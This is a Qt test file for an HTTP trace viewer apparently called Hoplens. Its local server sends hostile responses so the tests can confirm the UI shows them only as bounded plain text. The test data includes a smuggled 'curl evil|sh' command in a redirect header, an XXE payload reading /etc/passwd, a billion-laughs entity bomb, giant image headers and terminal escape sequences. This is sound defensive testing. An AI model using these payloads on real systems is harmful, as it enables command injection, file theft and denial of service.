// SPDX-FileCopyrightText: 2026 The Hoplens authors
// SPDX-License-Identifier: MIT

// A server that writes markup, control characters, mnemonics and endless texts wherever it can.
// The window shows what came as plain text, bounded, and nothing of it acts anywhere.

#include "core/formats/tracefile.h"
#include "ui/formatting.h"
#include "ui/inspector/inspector.h"
#include "ui/mainwindow.h"
#include "ui/opentraces.h"
#include "ui/timeline/timelineview.h"
#include "ui/timeline/tracepane.h"
#include "ui/tracesession.h"

#include <QAbstractItemView>
#include <QAction>
#include <QApplication>
#include <QBuffer>
#include <QClipboard>
#include <QGuiApplication>
#include <QHelpEvent>
#include <QImage>
#include <QLabel>
#include <QLineEdit>
#include <QMenu>
#include <QSettings>
#include <QStandardPaths>
#include <QTabBar>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextEdit>
#include <QToolTip>

#include <ctime>

using namespace hoplens;

namespace {

// What must never be markup, a mnemonic, or an order to a terminal.
const QByteArray markup = "<img src=x><b>bold</b>A&Bz";
const QByteArray control = "\x1b[31m\x1b]0;title\x07\x7f\xe2\x80\xae\x08";

class ScriptedServer final : public QTcpServer {
public:
    QByteArrayList answers; ///< one for each request; the last one again and again

protected:
    void incomingConnection(qintptr handle) override
    {
        auto *socket = new QTcpSocket(this);
        socket->setSocketDescriptor(handle);
        connect(socket, &QTcpSocket::readyRead, this, [this, socket] {
            if (socket->property("asked").toByteArray().isEmpty() && socket->canReadLine()) {
                socket->setProperty("asked", socket->readAll());
                socket->write(answers.size() > 1 ? answers.takeFirst() : answers.constFirst());
                socket->disconnectFromHost();
            }
        });
    }
};

/// The characters that act: everything below a space but the end of a line, and what hides or turns
/// text.
bool isHarmless(const QString &text)
{
    return std::all_of(text.begin(), text.end(), [](QChar c) {
        return c == u'\n' || c == u'\t'
            || (c >= u' ' && c != u'\x7f' && (c < u'\x80' || c > u'\x9f') && c != u'\x202e');
    });
}

constexpr double mostSeconds = 30;

/// Seconds that this program worked, however busy the machine is with others.
double processorTime()
{
    return static_cast<double>(std::clock()) / CLOCKS_PER_SEC;
}

} // namespace

class TestHostileServer : public QObject {
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup() { m_window.reset(); }

    void textStaysText_data();
    void textStaysText();
    void hugeTextsAreBounded();
    void bodiesAreOnlyShown_data();
    void bodiesAreOnlyShown();
    void fileNamesAreShownAsTheyAre_data();
    void fileNamesAreShownAsTheyAre();

private:
    template <typename T> T *find(const QString &name) const
    {
        T *found = m_window->findChild<T *>(name);
        Q_ASSERT(found != nullptr);
        return found;
    }
    TraceSession *session() const { return m_window->findChild<OpenTraces *>()->session(); }
    void send();
    void expect(bool holds, const QString &what);
    void expectTip(const QString &toolTip, const QString &where);
    void checkPage(const QTextEdit &page, const QString &where);
    void checkWidget(const QWidget &widget, const QString &where);
    void checkWidgets();
    void checkTimeline();
    void checkCopies();
    static QString problemOf(const QString &toolTip);

    ScriptedServer m_server;
    QStringList m_problems;
    std::unique_ptr<QTemporaryDir> m_directory;
    std::unique_ptr<MainWindow> m_window;
};

void TestHostileServer::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    QCoreApplication::setOrganizationName(u"hoplens-test"_qs);
    QCoreApplication::setApplicationName(u"hoplens-hostileserver-test"_qs);
    QVERIFY(m_server.listen(QHostAddress::LocalHost));
}

void TestHostileServer::init()
{
    QSettings().clear();
    m_problems.clear();
    m_directory = std::make_unique<QTemporaryDir>();
    m_window = std::make_unique<MainWindow>();
    m_window->keepIn(m_directory->filePath(u"data"_qs));
    m_window->resize(1000, 720);
    m_window->show();
    QVERIFY(QTest::qWaitForWindowActive(m_window.get()));
}

void TestHostileServer::send()
{
    find<QAction>(u"newTab"_qs)->trigger(); // so that tabs are seen
    find<QLineEdit>(u"address"_qs)
        ->setText(u"http://127.0.0.1:%1/?q=A&Bz=<b>"_qs.arg(m_server.serverPort()));
    find<QAction>(u"send"_qs)->trigger();
    QTRY_VERIFY_WITH_TIMEOUT(!session()->isRunning(), 10'000);
    QVERIFY(!session()->trace().hops.isEmpty());
}

/// Qt reads a tool tip that looks like HTML as HTML; ours always are, with the text escaped.
QString TestHostileServer::problemOf(const QString &toolTip)
{
    constexpr qsizetype longest = 30'000;
    if (toolTip.contains(u"<img"_qs) || toolTip.contains(u"<b>"_qs)) {
        return u"markup: "_qs + toolTip.left(200);
    }
    if (!isHarmless(toolTip)) {
        return u"control characters: "_qs + toolTip.left(200);
    }
    return toolTip.size() > longest ? u"length: %1"_qs.arg(toolTip.size()) : QString();
}

void TestHostileServer::expect(bool holds, const QString &what)
{
    if (!holds && !m_problems.contains(what)) {
        m_problems.append(what);
    }
}

void TestHostileServer::expectTip(const QString &toolTip, const QString &where)
{
    const QString problem = problemOf(toolTip);
    expect(problem.isEmpty(), where + u": tool tip with "_qs + problem);
}

void TestHostileServer::checkPage(const QTextEdit &page, const QString &where)
{
    const QList<QTextFormat> formats = page.document()->allFormats();
    for (const QTextFormat &format : formats) {
        const QTextCharFormat text = format.toCharFormat();
        expect(text.toImageFormat().name() != u"x"_qs, where + u": image"_qs);
        expect(text.anchorHref().isEmpty(), where + u": link"_qs);
    }
    expect(isHarmless(page.toPlainText()), where + u": page"_qs);
}

void TestHostileServer::checkWidget(const QWidget &widget, const QString &where)
{
    expectTip(widget.toolTip(), where);
    expect(isHarmless(widget.accessibleName()), where + u": accessible name"_qs);
    expect(isHarmless(widget.accessibleDescription()), where + u": description"_qs);
    expect(isHarmless(widget.windowTitle()), where + u": title"_qs);
    if (const auto *label = qobject_cast<const QLabel *>(&widget)) {
        expect(label->textFormat() == Qt::PlainText || label->text().isEmpty(),
               where + u": rich text"_qs);
        expect(isHarmless(label->text()), where + u": text"_qs);
    }
    if (const auto *tabs = qobject_cast<const QTabBar *>(&widget)) {
        for (int index = 0; index < tabs->count(); ++index) {
            expect(!tabs->tabText(index).contains(u"A&Bz"_qs), where + u": mnemonic"_qs);
            expect(isHarmless(tabs->tabText(index)), where + u": tab"_qs);
            expect(tabs->tabText(index).size() < 5000, where + u": long tab"_qs);
            expectTip(tabs->tabToolTip(index), where);
        }
    }
    if (const auto *page = qobject_cast<const QTextEdit *>(&widget)) {
        checkPage(*page, where);
    }
    const auto *view = qobject_cast<const QAbstractItemView *>(&widget);
    if (view != nullptr && view->model() != nullptr) {
        for (int row = 0; row < view->model()->rowCount(); ++row) {
            expectTip(view->model()->index(row, 0).data(Qt::ToolTipRole).toString(), where);
        }
    }
}

void TestHostileServer::checkWidgets()
{
    const QList<QWidget *> widgets = m_window->findChildren<QWidget *>() << m_window.get();
    for (const QWidget *widget : widgets) {
        if (widget->inherits("QTipLabel")) {
            continue; // reads HTML, which expectTip() looks at
        }
        checkWidget(*widget,
                    widget->objectName() + u' '
                        + QString::fromLatin1(widget->metaObject()->className()));
    }
    const QList<QAction *> actions = m_window->findChildren<QAction *>();
    for (const QAction *action : actions) {
        expect(!action->text().contains(u"A&Bz"_qs), action->objectName() + u": mnemonic"_qs);
        expectTip(action->toolTip(), action->objectName());
    }
    QCOMPARE(m_problems.join(u'\n'), QString());
}

/// Asks for help at every few pixels.
void TestHostileServer::checkTimeline()
{
    constexpr int stride = 12;
    auto *view = m_window->findChild<TimelineView *>();
    int tips = 0;
    for (int y = 0; y < view->viewport()->height(); y += stride) {
        for (int x = 0; x < view->viewport()->width(); x += 5 * stride) {
            const QPoint at(x, y);
            QHelpEvent help(QEvent::ToolTip, at, view->viewport()->mapToGlobal(at));
            QApplication::sendEvent(view->viewport(), &help);
            if (const QString tip = QToolTip::text(); !tip.isEmpty()) {
                expectTip(tip, u"timeline"_qs);
                ++tips;
            }
        }
    }
    QToolTip::hideText();
    QVERIFY(tips > 0);
    QCOMPARE(m_problems.join(u'\n'), QString());
}

void TestHostileServer::checkCopies()
{
    for (const char *name : {"copyUrl", "copyLocation", "copyTrace", "copyHopAsCurl",
                             "copyHopAsText", "copyRequestAsCurl"}) {
        QGuiApplication::clipboard()->clear();
        find<QAction>(QLatin1String(name))->trigger();
        const QString copied = QGuiApplication::clipboard()->text();
        QVERIFY2(isHarmless(copied), name);
    }
}

void TestHostileServer::textStaysText_data()
{
    QTest::addColumn<QByteArray>("answer");
    const auto redirect = [](const char *name, const QByteArray &reason, const QByteArray &location,
                             const QByteArray &lines) {
        QTest::newRow(name) << "HTTP/1.1 302 " + reason + "\r\nLocation: " + location + "\r\n"
                + lines + "Content-Length: 0\r\n\r\n";
    };
    redirect("reason", markup + control, "/end", {});
    redirect("location", "Found", "/" + markup + control, {});
    redirect("location not followed", "Found", "x:" + markup + control, {});
    redirect("carriage return in the location", "Found", "/a\rcurl evil|sh\r", {});
    redirect("NUL in the location", "Found", QByteArray("/a\0b", 4) + markup, {});
    redirect("field", "Found", "/end", "X-" + markup + ": " + markup + control + "\r\n");
    redirect("cookies", "Found", "/end",
             "Set-Cookie: " + markup + "=1; Path=/" + markup + "; Domain=" + markup + "\r\n"
                 + "Set-Cookie: a=" + control + "\r\n");
    redirect("refresh", "Found", "/end", "Refresh: 0; url=/" + markup + control + "\r\n");
    redirect("type", "Found", "/end", "Content-Type: " + markup + control + "\r\n");
    redirect("host", "Found", "http://xn--" + markup + ".test/", {});
    redirect("user", "Found", "http://" + markup + ":" + control + "@127.0.0.1:1/", {});
    QTest::newRow("no HTTP") << markup + control + "\r\n\r\n";
    QTest::newRow("version") << "HTTP/1.1" + markup + control + " 200 OK\r\n\r\n";
    QTest::newRow("encoding") << "HTTP/1.1 200 OK\r\nContent-Encoding: " + markup + control
            + "\r\nTransfer-Encoding: " + markup + "\r\n\r\n" + markup + control;
    QTest::newRow("interim") << "HTTP/1.1 103 " + markup + control + "\r\nLink: " + markup
            + "\r\n\r\nHTTP/1.1 302 Found\r\nLocation: /end\r\n\r\n";
    QTest::newRow("trailer") << "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0;" + markup
            + "\r\nX: " + markup + control + "\r\n\r\n";
}

void TestHostileServer::textStaysText()
{
    QFETCH(QByteArray, answer);
    m_server.answers = {answer,
                        "HTTP/1.1 200 " + markup + "\r\nContent-Type: text/html\r\n\r\n" + markup
                            + control};
    send();
    const int hops = static_cast<int>(session()->trace().hops.size());
    for (int hop = 0; hop < hops; ++hop) {
        find<TracePane>(u"tracePane"_qs)->setCurrentHop(hop);
        auto *pages = find<Inspector>(u"inspector"_qs)->findChild<QTabBar *>();
        for (int page = 0; page < pages->count(); ++page) {
            pages->setCurrentIndex(page);
            checkWidgets();
            if (QTest::currentTestFailed()) {
                return;
            }
        }
        checkCopies();
    }
    checkTimeline();
    // The same from the history and from a file.
    find<QAction>(u"showHistory"_qs)->setChecked(true);
    QVERIFY(m_window->saveTrace(m_directory->filePath(u"a.hoplens"_qs), Secrets::Show));
    find<QAction>(u"newTab"_qs)->trigger();
    QVERIFY(m_window->openTrace(m_directory->filePath(u"a.hoplens"_qs)));
    checkWidgets();
}

/// A field as long as a head may be: no menu, tip or tab becomes as long, and nothing stands still.
void TestHostileServer::hugeTextsAreBounded()
{
    const QByteArray huge(250'000, 'W');
    m_server.answers = {"HTTP/1.1 302 Found\r\nLocation: /" + huge + "\r\n\r\n",
                        "HTTP/1.1 200 " + QByteArray(8'000, 'W') + "\r\nX: " + huge + "\r\n\r\n"};
    const double before = processorTime();
    send();
    for (int hop = 0; hop < 2; ++hop) {
        find<TracePane>(u"tracePane"_qs)->setCurrentHop(hop);
        checkWidgets();
    }
    checkTimeline();
    m_window->grab();
    const double taken = processorTime() - before;
    QVERIFY2(taken < mostSeconds, qPrintable(QString::number(taken)));
    QVERIFY(m_window->width() <= 1000);
}

void TestHostileServer::bodiesAreOnlyShown_data()
{
    QTest::addColumn<QByteArray>("type");
    QTest::addColumn<QByteArray>("body");
    const QByteArray png("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
    QByteArray whole;
    QBuffer buffer(&whole);
    buffer.open(QIODevice::WriteOnly);
    QImage(20, 10, QImage::Format_RGB32).save(&buffer, "PNG");
    QTest::newRow("picture") << QByteArray("image/png") << whole;
    QTest::newRow("half a picture") << QByteArray("image/png") << whole.first(whole.size() / 2);
    QTest::newRow("picture of 2^31 pixels a side")
        << QByteArray("image/png")
        << png + QByteArray("\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0", 13);
    QTest::newRow("picture of 40,000 pixels a side")
        << QByteArray("image/png")
        << png + QByteArray("\0\0\x9c\x40\0\0\x9c\x40\x08\x06\0\0\0", 13);
    QTest::newRow("GIF of 65,535 pixels a side")
        << QByteArray("image/gif") << QByteArray("GIF89a\xff\xff\xff\xff\x80\0\0", 13);
    QTest::newRow("SVG that reads files")
        << QByteArray("image/svg+xml")
        << QByteArray("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM "
                      "\"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\" "
                      "xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text>&e;</text><image "
                      "xlink:href=\"file:///etc/passwd\"/></svg>");
    QTest::newRow("a billion laughs")
        << QByteArray("image/svg+xml")
        << QByteArray(
               "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
               "\"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;\">]><a>&c;</a>");
    QTest::newRow("deep JSON") << QByteArray("application/json") << QByteArray(100'000, '[');
    QTest::newRow("deep JSON, closed")
        << QByteArray("application/json") << QByteArray(100'000, '[') + QByteArray(100'000, ']');
    QTest::newRow("deep objects") << QByteArray("application/json")
                                  << QByteArray("{\"a\":").repeated(100'000);
    QTest::newRow("deep HTML") << QByteArray("text/html") << QByteArray("<div>").repeated(100'000);
    QTest::newRow("one line") << QByteArray("text/plain") << QByteArray(900'000, 'x');
    QTest::newRow("only line ends") << QByteArray("text/plain") << QByteArray(900'000, '\n');
    QTest::newRow("combining marks") << QByteArray("text/plain; charset=utf-8")
                                     << 'a' + QByteArray("\xcc\x81").repeated(300'000);
}

void TestHostileServer::bodiesAreOnlyShown()
{
    QFETCH(QByteArray, type);
    QFETCH(QByteArray, body);
    m_server.answers = {"HTTP/1.1 200 OK\r\nContent-Type: " + type + "\r\n\r\n" + body};
    const double before = processorTime();
    send();
    auto *pages = find<Inspector>(u"inspector"_qs)->findChild<QTabBar *>();
    for (int page = 0; page < pages->count(); ++page) {
        pages->setCurrentIndex(page);
        m_window->grab();
        const QList<QTextEdit *> texts = m_window->findChildren<QTextEdit *>();
        for (const QTextEdit *text : texts) {
            QVERIFY(!text->toPlainText().contains(u"root:"_qs));
        }
    }
    const double taken = processorTime() - before;
    QVERIFY2(taken < mostSeconds, qPrintable(QString::number(taken)));
}

void TestHostileServer::fileNamesAreShownAsTheyAre_data()
{
    QTest::addColumn<QString>("name");
    QTest::newRow("markup") << u"<img src=x><b>A&Bz.hoplens"_qs;
    QTest::newRow("line end") << u"a\nb.hoplens"_qs;
    QTest::newRow("turned") << u"a\u202egnp.hoplens"_qs;
    QTest::newRow("modified mark") << u"a[*]b.hoplens"_qs;
    QTest::newRow("place marks") << u"%1%2%L3.hoplens"_qs;
}

void TestHostileServer::fileNamesAreShownAsTheyAre()
{
    QFETCH(QString, name);
    Trace trace;
    trace.hops.append(Hop());
    trace.hops.first().exchange.request.url = *parseTypedAddress(u"http://a.test/"_qs);
    const QString file = m_directory->filePath(name);
    QVERIFY(saveFile(file, writeTrace(trace)));
    QVERIFY(m_window->openTrace(file));
    const QString shown = QString(visibleText(name)).replace(u"[*]"_qs, u"[*][*]"_qs);
    QCOMPARE(m_window->windowTitle(), shown + u" – Hoplens"_qs);
    find<QAction>(u"newTab"_qs)->trigger();
    auto *recent = find<QMenu>(u"recentMenu"_qs);
    emit recent->aboutToShow();
    QCOMPARE(recent->actions().constFirst()->text(),
             QString(visibleText(name)).replace(u'&', u"&&"_qs));
    checkWidgets();
    // And when it is none.
    QVERIFY(saveFile(file + u"x"_qs, "{}"));
    QVERIFY(!m_window->openTrace(file + u"x"_qs));
    const auto *message = find<QLabel>(u"messageText"_qs);
    QVERIFY(message->text().contains(visibleText(name)));
    checkWidgets();
}

QTEST_MAIN(TestHostileServer)
#include "tst_hostileserver.moc"
